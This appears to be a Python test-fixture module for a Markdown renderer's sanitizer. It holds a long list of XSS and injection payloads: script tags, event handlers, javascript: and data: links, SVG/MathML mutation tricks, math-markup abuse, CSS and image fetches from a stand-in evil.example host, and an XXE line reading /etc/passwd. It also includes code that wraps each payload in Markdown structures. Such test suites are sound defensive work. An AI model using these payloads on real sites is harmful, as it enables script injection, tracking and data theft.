"""Hostile Markdown: each must reach the page as harmless text, a plain link, or nothing that runs or fetches."""

from itertools import product

_HTML = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<script x>alert(1)</script 1=2
<img src=x onerror=alert(1)>
<img src=//evil.example/p.png>
<img srcset="//evil.example/p.png 1x">
<img/src/onerror=alert(1)>
<img src=`x` onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<image src=x onerror=alert(1)>
<picture><source srcset=//evil.example/p.png><img></picture>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
<svg><image href="//evil.example/p.png"/></svg>
<svg><style>@import "//evil.example/x.css"</style></svg>
<svg><desc><style></desc><img src=x onerror=alert(1)></style></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<body background=//evil.example/p.png>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=//evil.example/x.swf>
<applet code=x></applet>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href=//evil.example/>
<style>@import url(//evil.example/x.css);</style>
<style>*{background:url(//evil.example/p.png)}</style>
<p style="background:url(//evil.example/p.png)">x</p>
<div style="position:fixed;inset:0">x</div>
<video src=//evil.example/v.mp4 autoplay></video>
<video poster=//evil.example/p.png></video>
<audio src=x onerror=alert(1)>
<track src=//evil.example/t.vtt>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<input type=image src=//evil.example/p.png>
<button formaction=javascript:alert(1)>x</button>
<form action=//evil.example/><input type=submit></form>
<select onfocus=alert(1) autofocus></select>
<textarea onfocus=alert(1) autofocus></textarea>
<marquee onstart=alert(1)>x</marquee>
<isindex type=image src=1 onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="jAvAsCrIpT:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=# onclick=alert(1)>x</a>
<a ping=//evil.example/ href=/>x</a>
<table background=//evil.example/p.png><tr><td background=//evil.example/p.png>x</table>
<td style="background:url(//evil.example/)">x</td>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)</script>
<title><img src=x onerror=alert(1)></title>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<x onclick=alert(1) tabindex=1 id=x></x>
<x contenteditable onblur=alert(1)>x</x>
<custom-element onpointerenter=alert(1)>x</custom-element>
<portal src=//evil.example/></portal>
<frameset onload=alert(1)><frame src=//evil.example/></frameset>
<bgsound src=//evil.example/x.wav>
<layer src=//evil.example/></layer>
<input type="hidden" accesskey="X" onclick="alert(1)">
<div hx-get="//evil.example/" hx-trigger=load>x</div>
<div data-hx-on:load="alert(1)">x</div>
<forllm-preview src=//evil.example/></forllm-preview>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</code></pre><script>alert(1)</script>
</p></div></article><script>alert(1)</script>
<a href="//evil.example/" target=_blank>x</a>
<blockquote cite="javascript:alert(1)">x</blockquote>
<del cite="//evil.example/">x</del>
<button popovertarget=x onbeforetoggle=alert(1)>x</button>
<div onwheel=alert(1) ontouchstart=alert(1)>x</div>
'''

_SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "java&#x0A;script:alert(1)", "\\javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>1</script>",
    "data:image/svg+xml;base64,PHN2Zz4=", "file:///etc/passwd", "blob:x", "view-source:x", "\x01javascript:alert(1)",
    "feed:javascript:alert(1)", "about:blank", "jar:x!/", "livescript:x", "mocha:x", "filesystem:x", "chrome://x",
    "javascript:/*--></title></style>*/alert(1)", "javascript://x%0aalert(1)", "&Tab;javascript:alert(1)",
    "https://evil.example\"onclick=alert(1)", "https://[::1", "http://a@b@evil.example/", "//evil.example/p.png",
    "/\\evil.example/p.png", "https:evil.example", "///evil.example", "http:\\\\evil.example",
]  # fmt: skip
_LINK_FORMS = ["[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "[x][r]\n\n[r]: {}", "![x][r]\n\n[r]: <{}>", "^[[x]({})]"]

_MARKDOWN = [
    "![x](//evil.example/p.png)", "![x](https://evil.example/p.png \"t\")", "![x](/attachments/../../logout)",
    "![x](/attachments/%2e%2e/x)", "![x](/attachments//evil.example/x)", "![x](/attachments/\\evil.example)",
    "![x](/attachments/x?next=//evil.example)", "![](\"onerror=alert(1))", "![x](x \"\\\"onerror=alert(1)\")",
    "[![x](//evil.example/p.png)](//evil.example/)", "![![x](//evil.example/a)](//evil.example/b)",
    "[x](https://evil.example/ '\"onmouseover=alert(1) x=\"')", "[a](x\"onclick=alert(1))", "[\"><script>](x)",
    "```\"><script>alert(1)</script>\nx\n```", "```html\n<script>alert(1)</script>\n```",
    "~~~js onload=alert(1)\n</code></pre><script>alert(1)</script>\n~~~", "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`", "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|![x](//evil.example/)|",
    "|a|\n|:-:|\n|`\"><script>`|", "$<script>alert(1)</script>$", "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$", "$\\color{\"onclick=alert(1)}{x}$", "$\\mathrm{</math><script>}$",
    "$$\\text{</mtext></math><img src=//evil.example/p.png>}$$", "\\(\\style{background:url(//evil.example)}{x}\\)",
    "\\[\\class{x onclick=alert(1)}{x}\\]", "$\\hspace{-99999px}x$", "$\\color{red;background:url(//e.example)}{x}$",
    "$\\text{&lt;script&gt;alert(1)&lt;/script&gt;}$", "$\\unicode{<script>}$", "$\\cssId{x}{y}$",
    "[^\"><script>]: x\n\nuse[^\"><script>]", "x[^1]\n\n[^1]: <script>alert(1)</script>", "^[<img src=x onerror=a>]",
    "- [x] <script>alert(1)</script>", "# <script>alert(1)</script>", "> <iframe src=//evil.example>",
    "https://evil.example/\"onmouseover=\"alert(1)", "www.evil.example/<script>", "a@evil.example\"onclick=alert(1)",
    "[r]: javascript:alert(1) '\"><script>'\n\n[r]", "[x]: https://evil.example/p.png\n\n![x]",
    "&lt;script&gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "<https://evil.example/?\"onclick=alert(1)>", "{{7*7}} ${7*7} %s%n",
    "[x](javascript&#58;alert(1))", "[x](java\nscript:alert(1))", "![x](data:image/png;base64,AAAA)",
]  # fmt: skip


def all_payloads() -> list[str]:
    """Every payload, alone; and the HTML ones also inside a list, a quote, emphasis and a table."""
    html = [line for line in _HTML.splitlines() if line]
    links = [form.format(address) for form, address in product(_LINK_FORMS, _SCHEMES)]
    wraps = ("- {}", "> {}", "**{}**", "|{}|\n|-|", "[{}](https://a.example)", "\\\n{}", "{}\n\n    {}")
    wrapped = [wrap.replace("{}", line) for wrap, line in product(wraps, html)]
    return list(dict.fromkeys(html + links + _MARKDOWN + wrapped))
